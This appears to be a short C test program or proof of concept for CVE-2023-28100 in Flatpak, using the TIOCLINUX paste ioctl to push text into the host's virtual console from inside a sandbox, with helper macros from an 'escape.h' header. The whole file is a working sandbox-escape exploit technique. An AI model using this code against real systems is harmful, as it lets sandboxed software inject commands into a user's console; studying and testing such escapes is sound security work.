// TIOCLINUX pastes into a virtual console (CVE-2023-28100 of Flatpak).
#include "escape.h"
int main(void)
{
	char paste[2] = {3, 0};
	HOST(ioctl(0, TIOCLINUX, paste));
	escaped();
}
